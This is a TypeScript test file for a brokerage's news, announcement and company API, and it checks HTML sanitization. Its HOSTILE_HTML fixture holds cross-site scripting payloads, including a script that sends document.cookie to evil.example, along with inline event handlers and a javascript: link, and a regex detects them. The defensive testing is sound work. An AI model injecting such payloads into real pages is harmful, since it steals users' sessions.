import type {
  Announcement,
  Company,
  CompanyStatus,
  NewsCategory,
  NewsDetail,
  NewsList,
} from '@meridian/contract/content';
import { describe, expect, it, onTestFinished } from 'vitest';
import { call } from '../../../test/accounts';
import { useTestApp } from '../../../test/app-hooks';
import { seedReferenceData } from '../../seed';
import { setSetting } from '../settings/settings.service';
import * as repository from './content.repository';
import { createNews } from './content.service';

const t = useTestApp();

const HOSTILE_HTML = [
  '<p>Rates <strong>held</strong>.</p>',
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '<img src="x" onerror="alert(1)">',
  '<img src="https://cdn.example.com/chart.png" onerror="alert(2)" alt="chart">',
  '<a href="javascript:alert(3)" onclick="alert(4)">click</a>',
  '<a href="https://www.meridian-markets.com/terms">terms</a>',
  '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>',
  '<p style="position:fixed" onmouseover="alert(5)">hover</p>',
].join('');

function expectClean(html: string) {
  expect(html).not.toMatch(/<script|<iframe|<style|onerror|onclick|onmouseover|javascript:|style=/i);
  expect(html).toContain('<strong>held</strong>');
  expect(html).toContain('alt="chart"');
  expect(html).toContain('href="https://www.meridian-markets.com/terms"');
  expect(html).toContain('rel="noopener noreferrer nofollow"');
}

describe('news', () => {
  it('lists the categories in the reader language', async () => {
    const english = await call<NewsCategory[]>(t, 'GET', '/api/news/category_list', {}, { lang: 'en' });
    expect(english.data.map((category) => category.name)).toEqual([
      'Markets',
      'Central banks',
      'Crypto',
      'Product news',
    ]);
    const chinese = await call<NewsCategory[]>(t, 'GET', '/api/news/category_list', {}, { lang: 'hk' });
    expect(chinese.data[0]).toEqual({ id: 1, name: '市場動態' });
  });

  it('pages the news newest first, with the total', async () => {
    const first = await call<NewsList>(t, 'GET', '/api/news/list', { page: 1, limit: 3 }, { lang: 'en' });
    expect(first.code).toBe(1);
    expect(first.data.total).toBe(8);
    expect(first.data.list).toHaveLength(3);
    const second = await call<NewsList>(t, 'GET', '/api/news/list', { page: 3, limit: 3 }, { lang: 'en' });
    expect(second.data.list).toHaveLength(2);
    const all = [
      ...first.data.list,
      ...(await call<NewsList>(t, 'GET', '/api/news/list', { page: 2, limit: 3 }, { lang: 'en' })).data.list,
      ...second.data.list,
    ];
    expect(new Set(all.map((item) => item.id)).size).toBe(8);
    const times = all.map((item) => item.created_at);
    expect([...times].sort().reverse()).toEqual(times);
    expect(all[0]).toMatchObject({ language: 'en', title: expect.stringContaining('Fed holds rates') });
    expect(all[0]!.logo).toMatch(/^\/api\/content\/art\/macro\.svg\?v=/);
    expect(Object.keys(all[0]!)).not.toContain('content');
  });

  it('defaults to 10 a page and refuses a page size over the limit', async () => {
    expect((await call<NewsList>(t, 'GET', '/api/news/list', {})).data.limit).toBe(10);
    const tooMany = await call(t, 'GET', '/api/news/list', { limit: 51 });
    expect(tooMany).toMatchObject({ code: 0, msg: 'Page size is too large (at most 50).' });
  });

  it('filters by category', async () => {
    const product = await call<NewsList>(t, 'GET', '/api/news/list', { category_id: 4 }, { lang: 'en' });
    expect(product.data.total).toBe(2);
    expect(product.data.list.every((item) => item.category_id === 4)).toBe(true);
    expect((await call<NewsList>(t, 'GET', '/api/news/list', { category_id: 0 })).data.total).toBe(8);
  });

  it('answers each story in the reader language, falling back to English', async () => {
    const japanese = await call<NewsList>(t, 'GET', '/api/news/list', {}, { lang: 'jp' });
    expect(japanese.data.total).toBe(8);
    const languages = japanese.data.list.map((item) => item.language);
    expect(languages.filter((language) => language === 'jp')).toHaveLength(2);
    expect(languages.filter((language) => language === 'en')).toHaveLength(6);
    const chinese = await call<NewsList>(t, 'GET', '/api/news/list', {}, { lang: 'hk' });
    expect(chinese.data.list.every((item) => item.language === 'hk')).toBe(true);
    const french = await call<NewsList>(t, 'GET', '/api/news/list', {}, { lang: 'fr' });
    expect(french.data.list.every((item) => item.language === 'en')).toBe(true);
  });

  it('answers a story in the reader language even when the id names another version', async () => {
    const english = await call<NewsList>(t, 'GET', '/api/news/list', { category_id: 3 }, { lang: 'en' });
    const id = english.data.list[0]!.id;
    const detail = await call<NewsDetail>(t, 'GET', '/api/news/info', { id }, { lang: 'hk' });
    expect(detail.data).toMatchObject({ language: 'hk', title: '現貨 ETF 資金回流，比特幣企穩' });
    expect(detail.data.content).toContain('<h3>');
    const missing = await call(t, 'GET', '/api/news/info', { id: 999_999 });
    expect(missing).toEqual({ code: 0, msg: 'This news item does not exist.', data: null });
  });

  it('sanitizes HTML when it is written', async () => {
    const written = await createNews(t.database.db, {
      slug: 'hostile-written',
      language: 'en',
      categoryId: 1,
      title: 'Markets <b onmouseover="x">wrap</b>',
      desc: 'Summary',
      logo: '/api/content/art/markets.svg',
      content: HOSTILE_HTML,
      publishedAt: new Date('2020-01-01T00:00:00Z'),
    });
    // The list tests count the seeded stories: this one goes when the test ends, whatever the order.
    onTestFinished(() => repository.deleteNewsVersion(t.database.db, written.id));
    expectClean(written.content);
    expect(written.title).toBe('Markets wrap');
    const stored = await repository.findNewsById(t.database.db, written.id);
    expectClean(stored!.content);
  });

  it('sanitizes HTML again when it is read (content stored before the rules)', async () => {
    // Written past the service, as an old row or a direct database edit would be.
    const row = await repository.insertNews(t.database.db, {
      slug: 'hostile-stored',
      language: 'en',
      categoryId: 1,
      title: 'Old item',
      description: 'Old',
      logo: '/api/content/art/markets.svg',
      content: HOSTILE_HTML,
      publishedAt: new Date('2020-01-02T00:00:00Z'),
    });
    onTestFinished(() => repository.deleteNewsVersion(t.database.db, row.id));
    const detail = await call<NewsDetail>(t, 'GET', '/api/news/info', { id: row.id }, { lang: 'en' });
    expect(detail.code).toBe(1);
    expectClean(detail.data.content);
  });

  it('serves the logos as SVG, and 404 for unknown artwork', async () => {
    const logo = await t.app.inject({ method: 'GET', url: '/api/content/art/crypto.svg?v=1' });
    expect(logo.statusCode).toBe(200);
    expect(logo.headers['content-type']).toContain('image/svg+xml');
    expect(logo.body).toMatch(/^<svg /);
    expect((await t.app.inject({ method: 'GET', url: '/api/content/art/__proto__.svg' })).statusCode).toBe(
      404,
    );
  });

  it('seeds idempotently: a second run adds nothing', async () => {
    const before = (await call<NewsList>(t, 'GET', '/api/news/list', {}, { lang: 'hk' })).data.total;
    await seedReferenceData(t.database.db);
    expect((await call<NewsList>(t, 'GET', '/api/news/list', {}, { lang: 'hk' })).data.total).toBe(before);
  });
});

describe('announcements', () => {
  it('lists them newest first in the reader language, with sanitized content', async () => {
    const english = await call<{ list: Announcement[]; total: number }>(
      t,
      'GET',
      '/api/announcement/list',
      {},
      { lang: 'en' },
    );
    expect(english.data.total).toBe(4);
    expect(english.data.list[0]).toMatchObject({
      language: 'en',
      title: 'Trading hours around the year-end holidays',
    });
    const chinese = await call<{ list: Announcement[] }>(
      t,
      'GET',
      '/api/announcement/list',
      {},
      { lang: 'hk' },
    );
    expect(chinese.data.list.every((item) => item.language === 'hk')).toBe(true);
    const detail = await call<Announcement>(
      t,
      'GET',
      '/api/announcement/info',
      { id: english.data.list[1]!.id },
      { lang: 'hk' },
    );
    expect(detail.data.language).toBe('hk');
  });
});

describe('company', () => {
  it('answers the complaint e-mail from our own API', async () => {
    expect(await call(t, 'GET', '/api/company/complaint_email')).toMatchObject({
      code: 1,
      data: { email: 'complaints@meridian-markets.com', company_name: 'Meridian Markets' },
    });
  });

  it('searches companies by part of the name, any case', async () => {
    const all = await call<Company[]>(t, 'GET', '/api/company/getCompany');
    expect(all.data.length).toBe(5);
    expect(all.data[0]).toMatchObject({
      name: 'Meridian Markets Ltd',
      url: 'https://www.meridian-markets.com',
      registered_address: expect.stringContaining('Hong Kong'),
      email: 'support@meridian-markets.com',
    });
    expect(all.data[0]!.logo).toMatch(/^\/api\/content\/art\/entity-markets\.svg/);
    const asia = await call<Company[]>(t, 'GET', '/api/company/getCompany', { name: 'ASIA pac' });
    expect(asia.data.map((company) => company.name)).toEqual(['Meridian Asia Pacific Pte. Ltd.']);
    expect((await call<Company[]>(t, 'GET', '/api/company/getCompany', { name: '%' })).data).toEqual([]);
    expect((await call<Company[]>(t, 'GET', '/api/company/getCompany', { name: 'nobody' })).data).toEqual([]);
    expect((await call(t, 'GET', '/api/company/getCompany', { name: 'x'.repeat(33) })).code).toBe(0);
  });

  it('answers status 0 normally, and the loss_url to go to when the status is set', async () => {
    expect(await call<CompanyStatus>(t, 'GET', '/api/company/getCompanyStatus')).toMatchObject({
      code: 1,
      data: { status: 0, loss_url: '' },
    });
    await setSetting(t.database.db, 'company_status', '2');
    await setSetting(t.database.db, 'company_loss_url', 'https://notice.meridian-markets.com/closure');
    try {
      expect((await call<CompanyStatus>(t, 'GET', '/api/company/getCompanyStatus')).data).toEqual({
        status: 2,
        loss_url: 'https://notice.meridian-markets.com/closure',
      });
    } finally {
      await setSetting(t.database.db, 'company_status', '0');
    }
  });
});
